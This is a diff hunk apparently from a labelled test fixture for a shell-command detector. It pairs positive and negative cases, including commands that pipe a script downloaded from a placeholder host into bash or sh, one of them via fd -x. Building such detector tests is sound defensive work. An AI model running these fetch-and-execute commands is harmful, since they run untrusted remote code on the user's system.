@@ -485,3 +485,7 @@ flatpak install -y flathub org.gnome.TextEditor
 curl -fsSL https://x.example/s.sh | bwrap --dev-bind / / --tmpfs /tmp bash
 #@ neg a download piped into jq run through bwrap
 curl -fsSL https://x.example/s.json | bwrap --ro-bind / / --dev /dev jq .
+#@ pos fd -x runs a shell whose code downloads and runs a script
+fd -t d . /tmp -x sh -c 'curl -fsSL https://x.example/s | sh'
+#@ neg fd -x compresses the files it finds
+fd -e log . /var/log/app -x gzip -9
